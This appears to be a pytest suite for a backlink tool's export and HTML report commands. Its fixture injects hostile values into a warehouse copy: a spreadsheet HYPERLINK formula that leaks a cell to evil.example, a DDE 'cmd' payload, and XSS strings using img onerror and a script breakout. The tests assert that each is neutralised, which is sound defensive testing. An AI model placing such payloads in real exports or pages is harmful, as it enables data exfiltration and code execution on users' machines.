"""`backlinks export` and `backlinks report` on the refreshed bundled sample: every export format
(file per mart, row counts, types, formula-looking text neutralised), and the HTML report drawn
by a real headless Chromium (every chart rendered, no console error, nothing fetched, a script
payload from an export left as text)."""

from __future__ import annotations

import os
import shutil

import duckdb
import openpyxl
import polars as pl
import pytest

from dagster_project.export import CONTRACT_MARTS
from tests.browser import chromium_path, open_page
from tests.conftest import SAMPLE_CONFIG, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
PAYLOAD = '<img src=x onerror="window.__pwned=1">'
SCRIPT_BREAK = "</script><!--<script>window.__pwned=2</script>"
CHARTS = (
    "chart-referring-domains",
    "chart-velocity",
    "chart-anchors",
    "chart-authority",
    "chart-topics",
    "chart-disavow",
)


def _cli(*args: str, warehouse):
    return run_cli(*args, "--warehouse", str(warehouse), "--config", str(SAMPLE_CONFIG))


def _marts(warehouse) -> dict[str, int]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        names = [r[0] for r in con.sql("select table_name from duckdb_tables() where schema_name = 'marts'").fetchall()]
        return {name: con.sql(f'select count(*) from marts."{name}"').fetchall()[0][0] for name in names}


@pytest.fixture(scope="module")
def tampered(sample_refresh, tmp_path_factory):
    """A copy of the sample warehouse where text shown by the exports and the report carries
    payloads: a formula in an anchor and a page title, markup in a mention title, a topic, disavow
    reasons and a suggested redirect. The published sample is never touched."""
    path = tmp_path_factory.mktemp("tampered") / "warehouse.duckdb"
    shutil.copy(sample_refresh.warehouse, path)
    with duckdb.connect(str(path)) as con:
        con.execute(
            "update marts.fct_backlinks set anchor = ?, page_title = ? where link_id = (select min(link_id) from marts.fct_backlinks)",
            [FORMULA, "+cmd|' /C calc'!A0"],
        )
        site = con.sql("select site_domain from config.sites where role = 'site'").fetchall()[0][0]
        con.execute(
            "update marts.unlinked_mentions set title = ? where site_domain = ? and lead_rank = 1", [PAYLOAD, site]
        )
        con.execute(
            "update marts.competitor_gaps set topic = ? where site_domain = ? and opportunity_rank = 1", [PAYLOAD, site]
        )
        con.execute(
            "update marts.topical_coverage set topic = ? where site_domain = ? and topic = 'knives'",
            [SCRIPT_BREAK, site],
        )
        con.execute(
            "update marts.disavow_candidates set reasons = ? || '; ' || reasons where site_domain = ?", [PAYLOAD, site]
        )
        con.execute(
            "update marts.reclamation_targets set suggested_redirect = ? where site_domain = ? and reclaim_rank = 1",
            [PAYLOAD, site],
        )
    return path


# ----------------------------------------------------------------------------------- export


@pytest.mark.parametrize("fmt", ["parquet", "csv", "xlsx"])
def test_export_writes_one_file_per_contract_mart_with_every_row(sample_refresh, tmp_path, fmt):
    proc = _cli("export", "--format", fmt, "--out", str(tmp_path), warehouse=sample_refresh.warehouse)
    assert proc.returncode == 0, proc.stderr
    counts = _marts(sample_refresh.warehouse)
    expected = [m for m in CONTRACT_MARTS if m in counts]
    assert len(expected) >= 9
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{m}.{fmt}" for m in expected)
    for missing in (m for m in CONTRACT_MARTS if m not in counts):
        assert f"marts.{missing} is not in this warehouse" in proc.stderr
    for mart in expected:
        path = tmp_path / f"{mart}.{fmt}"
        if fmt == "xlsx":
            rows = openpyxl.load_workbook(path, read_only=True)[mart].max_row - 1
        else:
            with duckdb.connect() as con:
                reader = "read_parquet" if fmt == "parquet" else "read_csv"
                rows = con.sql(f"select count(*) from {reader}(?)", params=[str(path)]).fetchall()[0][0]
        assert rows == counts[mart], mart


def test_parquet_keeps_every_column_and_type(sample_refresh, tmp_path):
    assert _cli("export", "--out", str(tmp_path), warehouse=sample_refresh.warehouse).returncode == 0
    with duckdb.connect(str(sample_refresh.warehouse), read_only=True) as con:
        for path in tmp_path.glob("*.parquet"):
            mart = path.stem
            want = con.sql(
                "select column_name, data_type from duckdb_columns() where schema_name = 'marts' and table_name = ? order by column_index",
                params=[mart],
            ).fetchall()
            got = con.sql(
                "select column_name, column_type from (describe select * from read_parquet(?))", params=[str(path)]
            ).fetchall()
            assert got == want, mart
            # and the values themselves: no row differs either way
            diff = con.sql(
                f'select count(*) from (select * from marts."{mart}" except all select * from read_parquet(?))',
                params=[str(path)],
            ).fetchall()[0][0]
            assert diff == 0, mart
    types = {t for path in tmp_path.glob("*.parquet") for t in pl.read_parquet_schema(path).values()}
    assert {pl.Date, pl.Boolean, pl.Float64, pl.Int32}.issubset(types)


def test_formula_text_is_neutralised_in_csv_and_xlsx_and_kept_in_parquet(tampered, tmp_path):
    for fmt in ("csv", "xlsx", "parquet"):
        proc = _cli(
            "export",
            "--format",
            fmt,
            "--out",
            str(tmp_path / fmt),
            "fct_backlinks",
            "marts.link_velocity",
            warehouse=tampered,
        )
        assert proc.returncode == 0, proc.stderr
        assert sorted(p.name for p in (tmp_path / fmt).iterdir()) == [f"fct_backlinks.{fmt}", f"link_velocity.{fmt}"]

    csv_path = tmp_path / "csv" / "fct_backlinks.csv"
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    csv = pl.read_csv(csv_path, infer_schema=False)
    assert csv.filter(pl.col("anchor") == "'" + FORMULA).height == 1
    assert csv.filter(pl.col("page_title") == "'+cmd|' /C calc'!A0").height == 1
    for column in csv.columns:  # no text cell anywhere starts like a formula
        assert not csv[column].drop_nulls().str.contains(r"^[=+\-@\t\r]").any(), column
    velocity = pl.read_csv(tmp_path / "csv" / "link_velocity.csv")
    assert (
        velocity["net_referring_domains"].dtype == pl.Int64 and velocity["net_referring_domains"].min() < 0
    )  # numbers untouched

    sheet = openpyxl.load_workbook(tmp_path / "xlsx" / "fct_backlinks.xlsx")["fct_backlinks"]
    header = [c.value for c in sheet[1]]
    anchors = [row[header.index("anchor")] for row in sheet.iter_rows(min_row=2)]
    injected = [c for c in anchors if c.value and "HYPERLINK" in str(c.value)]
    assert len(injected) == 1 and injected[0].value == "'" + FORMULA and injected[0].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula anywhere
    first = sheet[2]
    assert first[header.index("first_seen")].is_date
    assert isinstance(first[header.index("tools_count")].value, int)
    assert isinstance(first[header.index("is_lost")].value, bool)
    lost = openpyxl.load_workbook(tmp_path / "xlsx" / "link_velocity.xlsx")["link_velocity"]
    lost_header = [c.value for c in lost[1]]
    net = [row[lost_header.index("net_referring_domains")].value for row in lost.iter_rows(min_row=2)]
    assert all(isinstance(v, int) for v in net) and min(net) < 0

    raw = pl.read_parquet(tmp_path / "parquet" / "fct_backlinks.parquet")
    assert raw.filter(pl.col("anchor") == FORMULA).height == 1  # Parquet keeps the vendor's text


def test_unknown_table_is_exit_2_and_writes_nothing(sample_refresh, tmp_path):
    out = tmp_path / "out"
    proc = _cli("export", "--out", str(out), "competitor_gaps", "no_such_mart", warehouse=sample_refresh.warehouse)
    assert proc.returncode == 2
    assert "unknown table 'no_such_mart'" in proc.stderr and "Traceback" not in proc.stderr
    assert not out.exists()


def test_export_and_report_without_a_warehouse_are_one_line_exit_2(tmp_path):
    for args in (("export", "--out", str(tmp_path / "x")), ("report", "--out", str(tmp_path / "r.html"))):
        proc = _cli(*args, warehouse=tmp_path / "none.duckdb")
        assert proc.returncode == 2, args
        assert (
            proc.stderr.strip().count("\n") == 0
            and "no warehouse at" in proc.stderr
            and "backlinks refresh" in proc.stderr
        )
    assert list(tmp_path.iterdir()) == []


def test_export_reads_the_warehouse_read_only(sample_refresh, tmp_path):
    """A read-only reader never blocks: another read-only connection is open meanwhile (a writer
    would make it fail), and the warehouse file is unchanged."""
    before = sample_refresh.warehouse.stat().st_mtime_ns
    with duckdb.connect(str(sample_refresh.warehouse), read_only=True):
        proc = _cli(
            "export", "--format", "csv", "--out", str(tmp_path), "profile_diversity", warehouse=sample_refresh.warehouse
        )
    assert proc.returncode == 0, proc.stderr
    assert sample_refresh.warehouse.stat().st_mtime_ns == before


# ----------------------------------------------------------------------------------- report


def _browser_or_skip() -> None:
    if chromium_path() is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is missing: .ci/run installs it")
        pytest.skip("chromium is not installed (apt-get install chromium)")


CHECKS = [
    "document.querySelectorAll('.chart[data-rendered=true]').length",
    "Array.from(document.querySelectorAll('.chart')).filter(e => e.querySelector('svg, canvas')).map(e => e.id)",
    "document.querySelectorAll('img').length",
    "window.__pwned === undefined",
    "document.body.innerText",
    "document.querySelectorAll('script[src], link[href], iframe, object, embed').length",
]


def _open(report):
    return open_page(
        report.as_uri(), f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(CHARTS)}", CHECKS
    )


def test_report_draws_every_chart_offline_in_a_real_browser(sample_refresh, tmp_path):
    _browser_or_skip()
    report = tmp_path / "report.html"
    proc = _cli("report", "--out", str(report), warehouse=sample_refresh.warehouse)
    assert proc.returncode == 0, proc.stderr
    html = report.read_text(encoding="utf-8")
    assert report.stat().st_size < 2_000_000
    page = _open(report)
    assert page.values[CHECKS[0]] == len(CHARTS)
    assert sorted(page.values[CHECKS[1]]) == sorted(CHARTS)  # an svg in each chart element
    assert page.console_errors == [] and page.exceptions == []
    assert page.requests == [report.as_uri()]  # the page itself and nothing else
    assert page.values[CHECKS[5]] == 0  # nothing external to load
    text = page.values[CHECKS[4]]
    with duckdb.connect(str(sample_refresh.warehouse), read_only=True) as con:
        site, latest = con.sql(
            "select site_domain, max(snapshot_date) from marts.profile_diversity join config.sites using (site_domain)"
            " where role = 'site' group by 1"
        ).fetchall()[0]
        competitors = [
            r[0] for r in con.sql("select site_domain from config.sites where role = 'competitor'").fetchall()
        ]
        top_gap = con.sql("select source_domain from marts.competitor_gaps where opportunity_rank = 1").fetchall()[0][0]
    assert f"Link profile report: {site}" in text and latest.strftime("%d %b %Y") in text
    assert all(c in text for c in competitors) and top_gap in text
    for heading in (
        "What changed since the previous snapshot",
        "Referring domains over time",
        "Weekly new and lost",
        "Anchor text mix",
        "Authority distribution",
        "Topical coverage",
        "Top competitor gaps",
        "Top unlinked-mention leads",
        "Broken pages to reclaim",
        "Disavow summary",
    ):
        assert heading in html


def test_report_keeps_payloads_from_exports_as_text(tampered, tmp_path):
    _browser_or_skip()
    report = tmp_path / "report.html"
    proc = _cli("report", "--out", str(report), warehouse=tampered)
    assert proc.returncode == 0, proc.stderr
    html = report.read_text(encoding="utf-8")
    assert PAYLOAD not in html and "</script><!--" not in html
    page = _open(report)
    assert page.values[CHECKS[2]] == 0  # no <img> element was created
    assert page.values[CHECKS[3]] is True  # no payload ran
    assert page.values[CHECKS[0]] == len(CHARTS)  # the chart whose data holds the payload still draws
    assert PAYLOAD in page.values[CHECKS[4]]  # shown as text, where it belongs
    assert page.console_errors == [] and page.exceptions == []
    assert page.requests == [report.as_uri()]  # an <img src=x> would have asked for file:///…/x


def test_report_of_a_first_snapshot_without_some_marts_says_so_instead_of_failing(sample_refresh, tmp_path):
    _browser_or_skip()
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(sample_refresh.warehouse, warehouse)
    with duckdb.connect(str(warehouse)) as con:
        con.execute("delete from marts.profile_diversity where not is_latest_snapshot")  # one snapshot only
        con.execute("drop table marts.topical_coverage")  # a warehouse built without that feature
        con.execute("delete from marts.disavow_candidates")
    report = tmp_path / "report.html"
    proc = _cli("report", "--out", str(report), warehouse=warehouse)
    assert proc.returncode == 0, proc.stderr
    drawn = [c for c in CHARTS if c not in ("chart-topics", "chart-disavow")]
    page = open_page(
        report.as_uri(),
        f"document.querySelectorAll('.chart[data-rendered=true]').length === {len(drawn)}",
        [CHECKS[1], CHECKS[4]],
    )
    assert sorted(page.values[CHECKS[1]]) == sorted(drawn)
    text = page.values[CHECKS[4]]
    assert "Only one snapshot so far" in text and "No disavow candidates." in text
    assert "Not in this warehouse (built by an older version, or without that feature): marts.topical_coverage." in text
    assert page.console_errors == [] and page.exceptions == []
